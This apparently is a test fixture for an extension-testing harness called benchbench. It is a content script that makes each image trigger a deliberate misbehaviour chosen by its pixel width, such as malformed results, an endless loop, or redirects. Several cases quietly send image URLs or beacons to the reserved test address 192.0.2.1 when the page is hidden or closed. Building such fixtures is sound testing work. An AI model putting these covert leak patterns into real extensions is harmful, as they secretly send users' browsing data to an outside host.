// Does with each image what its width in pixels says.
(() => {
  const RECORD = {
    schema_version: 1,
    status: "scored",
    score: 0.1 + 0.2,
    provider: "wasm",
    modelSha256: "a".repeat(64),
    preprocessingVersion: "puppet-1",
  };
  const kept = (globalThis.benchbenchResults = {});
  const say = (image, record) => image.setAttribute("data-benchbench-result", JSON.stringify(record));

  async function hashed(image) {
    const bytes = await (await fetch(image.src)).arrayBuffer();
    const digest = new Uint8Array(await crypto.subtle.digest("SHA-256", bytes));
    return { ...RECORD, sha256: [...digest].map((byte) => byte.toString(16).padStart(2, "0")).join("") };
  }

  const ACTS = {
    100: async (image) => say(image, await hashed(image)),
    101: async (image) => (kept[image.src] = await hashed(image)), // in the isolated world only
    102: () => {}, // never answers
    103: (image) => image.setAttribute("data-benchbench-result", "{"),
    104: (image) => say(image, { schema_version: 1, status: "disabled", reason: "off, says file:///home/me/off.txt" }),
    105: () => {
      for (;;); // keeps the page busy for ever
    },
    106: () => (location.href = "/elsewhere"),
    107: async (image) => say(image, { ...(await hashed(image)), sha256: "b".repeat(64) }),
    108: async (image) => say(image, { ...(await hashed(image)), provider: "webgpu" }),
    109: async (image) => say(image, { ...(await hashed(image)), provider: "metadata", result: "ai" }),
    110: (image) => say(image, RECORD), // without a digest of the bytes
    111: async (image) => {
      fetch("http://192.0.2.1/leak?" + image.src, { mode: "no-cors" }).catch(() => {}); // RFC 5737: nobody is there
      say(image, await hashed(image));
    },
    112: async (image) => say(image, { ...(await hashed(image)), modelSha256: "c".repeat(64) }),
    113: async (image) => say(image, { ...(await hashed(image)), score: 1.5 }),
    114: async (image) =>
      say(image, { ...(await hashed(image)), imageURL: image.src, localPath: "/home/me/x", result: "see /home/me/x" }),
    115: (image) => image.setAttribute("data-benchbench-result", "x".repeat(200000)),
    117: (image) => {
      document.addEventListener("visibilitychange", async () => document.hidden || say(image, await hashed(image)));
      image.dataset.listens = "yes";
    },
    118: async (image) => {
      addEventListener("pagehide", () => navigator.sendBeacon("http://192.0.2.1/parting", "x"));
      say(image, await hashed(image));
    },
    119: async (image) => {
      document.addEventListener("visibilitychange", () => navigator.sendBeacon("http://192.0.2.1/hidden", "x"));
      say(image, await hashed(image));
    },
    126: async (image) => {
      addEventListener("pagehide", (event) => event.isTrusted && navigator.sendBeacon("http://192.0.2.1/gone", "x"));
      say(image, await hashed(image));
    },
    127: async (image) => {
      chrome.runtime.sendMessage("http://192.0.2.1/by-worker"); // which the service worker fetches
      say(image, await hashed(image));
    },
    128: async (image) => {
      const hint = Object.assign(document.createElement("link"), { rel: "dns-prefetch", href: "//only-asked-for.example" });
      document.head.append(hint); // no request, only a name that is looked up
      say(image, await hashed(image));
    },
    116: (image) => {
      document.title = "failed: no memory"; // what a profile may call failure
    },
    // shown otherwise than the contract says
    120: (image) => (image.dataset.verdict = JSON.stringify({ ai: { percent: 37.5 }, took: { seconds: 0.25 }, state: "done" })),
    121: (image) => (image.dataset.verdict = JSON.stringify({ state: "error 17" })),
    122: (image) => {
      const badge = document.createElement("b");
      badge.textContent = " 0.625 ";
      badge.className = "badge";
      image.after(badge);
    },
    123: (image) =>
      new IntersectionObserver(([seen]) => {
        if (seen.isIntersecting) image.dataset.verdict = JSON.stringify({ ai: { percent: 50 }, state: "done" });
      }).observe(image),
    124: (image) => (image.dataset.verdict = JSON.stringify({ state: "new and unknown" })),
    125: (image) => (image.dataset.verdict = JSON.stringify({ state: "busy" })),
  };

  for (const image of document.images) {
    image.decode().then(
      () => ACTS[image.naturalWidth]?.(image),
      () => {}, // what cannot be shown is left alone
    );
  }
  const { name, version } = chrome.runtime.getManifest();
  const ready = { schema_version: 1, name, version, provider: "wasm" };
  document.documentElement.setAttribute("data-benchbench-ready", JSON.stringify(ready));
})();
